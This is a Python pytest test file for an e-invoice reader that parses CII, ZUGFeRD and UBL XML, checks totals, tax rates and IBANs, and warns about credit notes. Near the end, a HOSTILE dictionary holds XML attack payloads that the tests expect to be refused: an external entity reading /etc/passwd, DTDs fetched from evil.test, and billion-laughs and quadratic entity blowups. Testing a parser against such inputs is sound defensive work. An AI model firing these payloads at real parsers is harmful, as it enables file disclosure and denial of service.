from __future__ import annotations

import re
from datetime import date
from decimal import Decimal

import pytest

from postroom.nouns.documents import DocumentText, Embedded, InvoiceLine, typed
from postroom.reading.invoices import BadXml, e_invoice_among, is_invoice, read_e_invoice, read_invoice

CII = """<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
  xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"
  xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
 <rsm:ExchangedDocument><ram:ID>R-77</ram:ID><ram:TypeCode>380</ram:TypeCode>
  <ram:IssueDateTime><udt:DateTimeString format="102">20240503</udt:DateTimeString></ram:IssueDateTime></rsm:ExchangedDocument>
 <rsm:SupplyChainTradeTransaction>
  <ram:IncludedSupplyChainTradeLineItem>
   <ram:SpecifiedTradeProduct><ram:Name>Rope
     12 mm</ram:Name></ram:SpecifiedTradeProduct>
   <ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice><ram:ChargeAmount>6.1500</ram:ChargeAmount></ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement>
   <ram:SpecifiedLineTradeDelivery><ram:BilledQuantity unitCode="MTR">40</ram:BilledQuantity></ram:SpecifiedLineTradeDelivery>
   <ram:SpecifiedLineTradeSettlement><ram:ApplicableTradeTax><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
    <ram:SpecifiedTradeSettlementLineMonetarySummation><ram:LineTotalAmount>246.00</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation></ram:SpecifiedLineTradeSettlement>
  </ram:IncludedSupplyChainTradeLineItem>
  <ram:ApplicableHeaderTradeAgreement><ram:SellerTradeParty><ram:Name>Seiler GmbH</ram:Name></ram:SellerTradeParty>
   <ram:BuyerTradeParty><ram:Name>Werft AG</ram:Name></ram:BuyerTradeParty></ram:ApplicableHeaderTradeAgreement>
  <ram:ApplicableHeaderTradeSettlement><ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
   <ram:SpecifiedTradeSettlementPaymentMeans><ram:PayeePartyCreditorFinancialAccount><ram:IBANID>DE89 3704 0044 0532 0130 00</ram:IBANID></ram:PayeePartyCreditorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
   <ram:ApplicableTradeTax><ram:CalculatedAmount>46.74</ram:CalculatedAmount><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
   <ram:SpecifiedTradePaymentTerms><ram:DueDateDateTime><udt:DateTimeString format="102">20240602</udt:DateTimeString></ram:DueDateDateTime></ram:SpecifiedTradePaymentTerms>
   <ram:SpecifiedTradeSettlementHeaderMonetarySummation><ram:TaxBasisTotalAmount>246.00</ram:TaxBasisTotalAmount>
    <ram:TaxTotalAmount currencyID="USD">50.00</ram:TaxTotalAmount><ram:TaxTotalAmount currencyID="EUR">46.74</ram:TaxTotalAmount>
    <ram:GrandTotalAmount>292.74</ram:GrandTotalAmount><ram:DuePayableAmount>292.74</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
  </ram:ApplicableHeaderTradeSettlement>
 </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>"""

ZUGFERD_1 = (
    CII.replace("CrossIndustryInvoice", "CrossIndustryDocument")
    .replace("<rsm:ExchangedDocument", "<rsm:HeaderExchangedDocument").replace("</rsm:ExchangedDocument", "</rsm:HeaderExchangedDocument")
    .replace("rsm:SupplyChainTradeTransaction", "rsm:SpecifiedSupplyChainTradeTransaction")
    .replace("ApplicableHeaderTrade", "ApplicableSupplyChainTrade")
    .replace("SpecifiedLineTrade", "SpecifiedSupplyChainTrade")
    .replace("SettlementHeaderMonetary", "SettlementMonetary").replace("SettlementLineMonetary", "SettlementMonetary")
    .replace("RateApplicablePercent", "ApplicablePercent")
)  # fmt: skip

UBL = """<?xml version="1.0" encoding="UTF-8"?>
<{kind} xmlns="urn:oasis:names:specification:ubl:schema:xsd:{kind}-2"
 xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
 <cbc:ID>R-77</cbc:ID><cbc:IssueDate>2024-05-03</cbc:IssueDate>{due}<cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
 <cac:AccountingSupplierParty><cac:Party><cac:PartyName><cbc:Name>Seiler</cbc:Name></cac:PartyName>
  <cac:PartyLegalEntity><cbc:RegistrationName>Seiler GmbH</cbc:RegistrationName></cac:PartyLegalEntity></cac:Party></cac:AccountingSupplierParty>
 <cac:AccountingCustomerParty><cac:Party><cac:PartyName><cbc:Name>Werft AG</cbc:Name></cac:PartyName></cac:Party></cac:AccountingCustomerParty>
 <cac:PaymentMeans><cac:PayeeFinancialAccount><cbc:ID>DE89370400440532013000</cbc:ID></cac:PayeeFinancialAccount></cac:PaymentMeans>
 <cac:TaxTotal><cbc:TaxAmount currencyID="EUR">46.74</cbc:TaxAmount><cac:TaxSubtotal><cbc:TaxAmount currencyID="EUR">46.74</cbc:TaxAmount>
  <cac:TaxCategory><cbc:Percent>19</cbc:Percent></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>
 <cac:LegalMonetaryTotal><cbc:TaxExclusiveAmount currencyID="EUR">246.00</cbc:TaxExclusiveAmount>
  <cbc:TaxInclusiveAmount currencyID="EUR">292.74</cbc:TaxInclusiveAmount><cbc:PayableAmount currencyID="EUR">292.74</cbc:PayableAmount></cac:LegalMonetaryTotal>
 <cac:{kind}Line><cbc:{quantity}>40</cbc:{quantity}><cbc:LineExtensionAmount currencyID="EUR">246.00</cbc:LineExtensionAmount>
  <cac:Item><cbc:Name>Rope 12 mm</cbc:Name><cac:ClassifiedTaxCategory><cbc:Percent>19</cbc:Percent></cac:ClassifiedTaxCategory></cac:Item>
  <cac:Price><cbc:PriceAmount currencyID="EUR">6.15</cbc:PriceAmount></cac:Price></cac:{kind}Line>
</{kind}>"""
UBL_INVOICE = UBL.format(kind="Invoice", due="<cbc:DueDate>2024-06-02</cbc:DueDate>", quantity="InvoicedQuantity")
UBL_CREDIT = UBL.format(kind="CreditNote", due="", quantity="CreditedQuantity")
WRAPPED = f"<Envelope>{UBL_INVOICE.partition('?>')[2]}</Envelope>"

SHAPES = {"CII": CII, "ZUGFeRD 1.0": ZUGFERD_1, "UBL": UBL_INVOICE, "UBL in an envelope": WRAPPED}


@pytest.mark.parametrize("xml", SHAPES.values(), ids=SHAPES)
def test_every_shape_of_e_invoice_says_the_same(xml):
    reading = read_e_invoice(xml.encode())
    invoice = reading.invoice

    assert (invoice.number, invoice.issue_date, invoice.due_date) == ("R-77", date(2024, 5, 3), date(2024, 6, 2))
    assert (invoice.supplier, invoice.buyer) == ("Seiler GmbH", "Werft AG")
    assert (invoice.currency, invoice.iban) == ("EUR", "DE89370400440532013000")
    assert (invoice.net_total, invoice.tax_total, invoice.grand_total) == tuple(
        map(Decimal, ("246.00", "46.74", "292.74"))
    )
    assert invoice.tax_by_rate == {Decimal(19): Decimal("46.74")}
    assert invoice.lines == (
        InvoiceLine("Rope 12 mm", Decimal(40), Decimal("6.15"), tax_rate=Decimal(19), total=Decimal("246.00")),
    )
    assert (reading.exact, reading.warnings, invoice.confidence) == (True, (), 1.0)


def test_a_credit_note_is_read_as_well():
    invoice = read_e_invoice(UBL_CREDIT.encode()).invoice

    assert (invoice.number, invoice.due_date, invoice.grand_total) == ("R-77", None, Decimal("292.74"))
    assert [line.quantity for line in invoice.lines] == [Decimal(40)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1"])
def test_the_encoding_does_not_matter(encoding):
    xml = CII.replace("Seiler", "Käufler").replace("UTF-8", {"utf-8-sig": "utf-8"}.get(encoding, encoding))

    assert read_e_invoice(xml.encode(encoding)).invoice.supplier == "Käufler GmbH"


def test_sums_that_do_not_fit_are_told():
    wrong = CII.replace("<ram:GrandTotalAmount>292.74", "<ram:GrandTotalAmount>300.00").replace(
        ">246.00</ram:LineTotal", ">999.00</ram:LineTotal"
    )

    assert read_e_invoice(wrong.encode()).warnings == (
        "Net 246.00 and tax 46.74 do not make 300.00.",
        "Line 1: 40 × 6.1500 is not 999.00.",
        "300.00 less 0 paid leaves 300.00, not 292.74.",
    )


def test_the_embedded_invoice_wins_over_the_words():
    document = DocumentText(pages=(), embedded=(Embedded("notes.txt", b"x"), Embedded("factur-x.xml", CII.encode())))

    reading = read_invoice(document)

    assert reading.exact
    assert reading.invoice.number == "R-77"


@pytest.mark.parametrize("xml", SHAPES.values(), ids=SHAPES)
def test_a_bare_xml_file_that_was_read_as_text_is_still_exact(xml):
    document = typed(xml.replace("Seiler", "Käufler").replace("UTF-8", "ISO-8859-1"))

    reading = read_invoice(document)

    assert is_invoice(document)
    assert reading.exact
    assert (reading.invoice.supplier, reading.invoice.grand_total) == ("Käufler GmbH", Decimal("292.74"))


def test_the_standard_name_goes_before_other_xml():
    other = CII.replace("R-77", "OTHER").encode()

    reading = e_invoice_among([Embedded("a.xml", other), Embedded("Factur-X.xml", CII.encode())])

    assert reading is not None
    assert reading.invoice.number == "R-77"


def with_dues(lines="246.00", off="0", on="0", paid="0", left="292.74") -> dict[str, str]:
    """The same invoice in both languages, with what was taken off, put on and paid."""
    cii = CII.replace(
        "<ram:TaxBasisTotalAmount>",
        f"<ram:LineTotalAmount>{lines}</ram:LineTotalAmount><ram:ChargeTotalAmount>{on}</ram:ChargeTotalAmount>"
        f"<ram:AllowanceTotalAmount>{off}</ram:AllowanceTotalAmount><ram:TaxBasisTotalAmount>",
    ).replace(
        "<ram:DuePayableAmount>292.74",
        f"<ram:TotalPrepaidAmount>{paid}</ram:TotalPrepaidAmount><ram:DuePayableAmount>{left}",
    )
    ubl = UBL_INVOICE.replace(
        "<cbc:TaxExclusiveAmount",
        f"<cbc:LineExtensionAmount>{lines}</cbc:LineExtensionAmount><cbc:AllowanceTotalAmount>{off}</cbc:AllowanceTotalAmount>"
        f"<cbc:ChargeTotalAmount>{on}</cbc:ChargeTotalAmount><cbc:PrepaidAmount>{paid}</cbc:PrepaidAmount><cbc:TaxExclusiveAmount",
    ).replace(">292.74</cbc:PayableAmount>", f">{left}</cbc:PayableAmount>")
    return {"CII": cii, "UBL": ubl}


@pytest.mark.parametrize("shape", ["CII", "UBL"])
@pytest.mark.parametrize(
    ("dues", "warnings"),
    [
        ({}, ()),
        ({"off": "10.00", "on": "10.00"}, ()),
        ({"off": "10.00"}, ("Lines 246.00 with allowances and charges make 236.00, not 246.00.",)),
        ({"paid": "100.00", "left": "192.74"}, ("Of 292.74, 100.00 is paid already; 192.74 is due.",)),
        ({"paid": "292.74", "left": "0.00"}, ("Of 292.74, 292.74 is paid already; 0.00 is due.",)),
        ({"paid": "-20.00", "left": "312.74"}, ("To 292.74 comes 20.00 from before; 312.74 is due.",)),
        ({"paid": "100.00"}, ("292.74 less 100.00 paid leaves 192.74, not 292.74.",)),
        ({"lines": "1E9"}, ()),
    ],
)
def test_what_was_taken_off_put_on_or_paid_is_checked(shape, dues, warnings):
    reading = read_e_invoice(with_dues(**dues)[shape].encode())

    assert warnings == reading.warnings
    assert (Decimal("246.00"), Decimal("292.74")) == (reading.invoice.net_total, reading.invoice.grand_total)


@pytest.mark.parametrize(
    ("xml", "said"),
    [
        (UBL_CREDIT, "It is a credit note (type 381): the money comes back."),
        (
            CII.replace("<ram:TypeCode>380", "<ram:TypeCode>381"),
            "It is a credit note (type 381): the money comes back.",
        ),
        (CII.replace("<ram:TypeCode>380", "<ram:TypeCode>384"), "It corrects another invoice (type 384)."),
        (
            UBL_INVOICE.replace(
                "<cbc:DocumentCurrency", "<cbc:InvoiceTypeCode>325</cbc:InvoiceTypeCode><cbc:DocumentCurrency"
            ),
            "It is a pro forma invoice (type 325): nothing is to be paid by it.",
        ),
        (CII.replace("0130 00", "0130 01"), "The check digits of DE89370400440532013001 are wrong."),
        (
            CII.replace(">246.00</ram:TaxBasis", ">-246.00</ram:TaxBasis")
            .replace(">46.74<", ">-46.74<")
            .replace("292.74", "-292.74"),
            "Its total is negative: the money comes back.",
        ),
    ],
)
def test_what_a_person_must_see_before_it_is_paid_is_told(xml, said):
    assert said in read_e_invoice(xml.encode()).warnings


def test_a_line_with_a_discount_of_its_own_fits():
    cii = CII.replace(">246.00</ram:LineTotal", ">236.00</ram:LineTotal").replace(
        "<ram:SpecifiedTradeSettlementLineMonetarySummation>",
        "<ram:SpecifiedTradeAllowanceCharge><ram:ChargeIndicator><udt:Indicator>false</udt:Indicator></ram:ChargeIndicator>"
        "<ram:ActualAmount>10.00</ram:ActualAmount></ram:SpecifiedTradeAllowanceCharge>"
        "<ram:SpecifiedTradeSettlementLineMonetarySummation>",
    )
    ubl = UBL_INVOICE.replace(
        '<cbc:LineExtensionAmount currencyID="EUR">246.00</cbc:LineExtensionAmount>',
        '<cbc:LineExtensionAmount currencyID="EUR">256.00</cbc:LineExtensionAmount><cac:AllowanceCharge>'
        "<cbc:ChargeIndicator>true</cbc:ChargeIndicator><cbc:Amount>10.00</cbc:Amount></cac:AllowanceCharge>",
    )

    for xml, total in ((cii, "236.00"), (ubl, "256.00")):
        reading = read_e_invoice(xml.encode())
        assert ((), Decimal(total)) == (reading.warnings, reading.invoice.lines[0].total)


def test_several_rates_and_reverse_charge_are_kept_apart():
    more = """<cac:TaxSubtotal><cbc:TaxAmount currencyID="EUR">0.00</cbc:TaxAmount><cac:TaxCategory><cbc:ID>AE</cbc:ID>
      <cbc:Percent>0</cbc:Percent></cac:TaxCategory></cac:TaxSubtotal></cac:TaxTotal>"""

    invoice = read_e_invoice(UBL_INVOICE.replace("</cac:TaxTotal>", more, 1).encode()).invoice

    assert {Decimal(19): Decimal("46.74"), Decimal(0): Decimal("0.00")} == invoice.tax_by_rate


@pytest.mark.parametrize("xml", SHAPES.values(), ids=SHAPES)
def test_prefixes_are_whatever_the_sender_likes(xml):
    odd = re.sub(r"(</?|xmlns:)(rsm|ram|udt|cac|cbc)(?=[:=])", r"\1x-\2.1", xml)

    assert odd != xml
    assert read_e_invoice(xml.encode()) == read_e_invoice(odd.encode())


def test_an_account_that_is_no_iban_is_not_called_one():
    xml = UBL_INVOICE.replace("DE89370400440532013000", "4711-0815")

    assert read_e_invoice(xml.encode()).invoice.iban is None


HOSTILE = {
    "a document type": b'<!DOCTYPE Invoice><Invoice/>',
    "an external entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Invoice>&x;</Invoice>',
    "a billion laughs": b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><Invoice>&b;</Invoice>',
    "an external document type": b'<!DOCTYPE Invoice SYSTEM "http://evil.test/x.dtd"><Invoice/>',
    "endless nesting": b"<a>" * 100_000,
    "nothing": b"",
    "cut short": CII.encode()[:500],
    "no XML": b"%PDF-1.4",
    "an unknown root": b"<Order/>",
    "an order": CII.replace("<ram:TypeCode>380", "<ram:TypeCode>220").encode(),
    "an order by its root": CII.replace("rsm:CrossIndustryInvoice", "rsm:SCRDMCCBDACIOMessageStructure").encode(),
    "an encoding that is none": b'<?xml version="1.0" encoding="no-such"?><Invoice/>',
    "an encoding of many bytes": b'<?xml version="1.0" encoding="utf-7"?><Invoice/>',
    "a parameter entity": b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.test/x">%x;]><Invoice/>',
    "a quadratic blowup": b'<!DOCTYPE a [<!ENTITY a "' + b"a" * 50_000 + b'">]><Invoice>' + b"&a;" * 5000 + b"</Invoice>",
    "an undeclared entity": b"<Invoice>&nbsp;</Invoice>",
    "too many elements": b"<a>" + b"<b/>" * 260_000 + b"</a>",
    "an invoice in name only": b"<Invoice/>",
}  # fmt: skip


@pytest.mark.parametrize("xml", HOSTILE.values(), ids=HOSTILE)
def test_hostile_and_other_xml_is_refused(xml):
    with pytest.raises(BadXml):
        read_e_invoice(xml)


def test_a_refused_file_leaves_the_printed_words():
    document = DocumentText(pages=(), embedded=(Embedded("factur-x.xml", HOSTILE["a billion laughs"]),))

    assert not read_invoice(document).exact
